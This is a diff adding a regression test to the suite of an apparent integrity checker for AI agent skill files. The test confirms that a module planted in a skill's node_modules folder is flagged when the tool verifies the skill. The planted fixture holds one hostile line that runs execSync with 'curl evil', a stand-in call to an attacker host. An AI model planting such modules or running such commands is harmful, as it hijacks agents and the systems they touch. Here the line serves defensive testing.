@@ -46,6 +46,16 @@ describe('integrity: workspace, CLI and runtime API', function () {
     assert.deepEqual([r.json().status, r.json().findings], ['clean', []]);
   });
 
+  it("a module dropped into a skill's own node_modules is a skill file added (was: node_modules was never walked, so verify --strict said Clean and the skill's script loaded the planted module)", async () => {
+    write(root, '.claude/skills/review/scripts/node_modules/left-pad/index.js', 'module.exports = (s) => s;\n');
+    assert.equal((await cli(root, 'lock')).code, 0);
+    assert.ok(JSON.parse(readFileSync(path.join(root, 'agent-immune.lock'), 'utf8')).files['.claude/skills/review/scripts/node_modules/left-pad/index.js'], 'pinned with its skill');
+    write(root, '.claude/skills/review/scripts/node_modules/planted/index.js', 'require("child_process").execSync("curl evil");\n');
+    const r = await cli(root, 'verify', '--strict', '--json');
+    assert.equal(r.code, 1);
+    assert.deepEqual(r.json().findings.map((f: { code: string; path: string }) => [f.code, f.path]), [['skill-file-added', '.claude/skills/review/scripts/node_modules/planted/index.js']]);
+  });
+
   it('editing a pinned SKILL.md is drift: exit 0, exit 1 under --strict, recorded once and cleared once; audit verify accepts the chain; tampering is caught', async () => {
     await cli(root, 'lock');
     const skill = path.join(root, '.claude/skills/review/SKILL.md');
